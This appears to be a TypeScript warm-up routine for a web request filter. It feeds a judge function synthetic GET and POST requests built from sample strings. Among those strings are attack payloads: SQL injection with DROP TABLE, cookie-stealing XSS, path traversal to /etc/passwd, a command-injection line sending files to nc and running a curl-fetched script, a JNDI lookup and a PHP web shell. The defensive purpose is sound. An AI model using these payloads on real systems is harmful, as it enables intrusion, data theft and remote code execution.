// SPDX-License-Identifier: Apache-2.0

import { type RequestContext, readContext } from './context.ts'

/**
 * Has requests of all kinds judged, so that automata and compiled code are there before the first that matters. What it takes is
 * bounded: a few hundred requests.
 */
export function warm(judge: (context: RequestContext) => unknown): void {
  for (let round = 0; round < rounds; round += 1)
    for (const text of texts) for (const context of requestsWith(`${text} ${round}`)) judge(context)
}

const rounds = 6

const texts = [
  'blue shoes, size 40 & "wide"',
  "O'Brien; the best (of 3) <b>offers</b>",
  'https://shop.example/a/b.html?c=d&e=%2Ff#g',
  '{"id":[1,2.5e3,true],"name":"caf\xc3\xa9"}',
  '2026-11-23T20:00:00.000Z +01:00 50% #1 user@example.com',
  "1' OR '1'='1' UNION ALL SELECT name, 0x3c FROM users WHERE id = 1; DROP TABLE t; -- /* */",
  '"><script>alert(document.cookie)</script><img src=x onerror=alert(1)> javascript:x',
  '../../../../etc/passwd ..\\..\\windows\\win.ini file:///proc/self/environ',
  '; cat /etc/passwd | nc 192.0.2.1 80 && $(curl http://192.0.2.1/x.sh) `id` %0aping',
  '$\u007bjndi:ldap://192.0.2.1/a} <?php system($_GET[1]); ?> {{7*7}} O:8:"stdClass":0:{}',
  '%253Cscript%253E &#x3c;svg onload=alert(1)&gt; \\u003cimg\\u003e \\3c x',
]

function requestsWith(text: string): RequestContext[] {
  const headers = [
    ['Host', 'shop.example'],
    ['User-Agent', `Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0 ${text.length}`],
    ['Accept', 'text/html,application/xhtml+xml,*/*;q=0.8'],
    ['Accept-Language', 'en-US,en;q=0.9'],
    ['Cookie', `session=${encodeURIComponent(text)}; theme=dark`],
    ['Referer', 'https://shop.example/search?q=shoes'],
  ] as const
  const query = `q=${encodeURIComponent(text)}&page=2`
  const get = { method: 'GET', path: '/search/items.html', query, headers, address: '192.0.2.1' }
  const post = (type: string, body: string) => ({
    ...get,
    method: 'POST',
    query: '',
    headers: [...headers, ['Content-Type', type], ['Content-Length', String(body.length)]] as const,
    body: Buffer.from(body, 'latin1'),
  })
  const part = `--x\r\nContent-Disposition: form-data; name="a"; filename="a.txt"\r\n\r\n${text}\r\n--x--\r\n`
  return [
    get,
    post('application/x-www-form-urlencoded', query),
    post('application/json', JSON.stringify({ q: text, list: [1, 'a', null] })),
    post('application/xml', `<?xml version="1.0"?><a b="1">${text.replace(/[<&]/g, ' ')}</a>`),
    post('multipart/form-data; boundary=x', part),
  ].map(readContext)
}
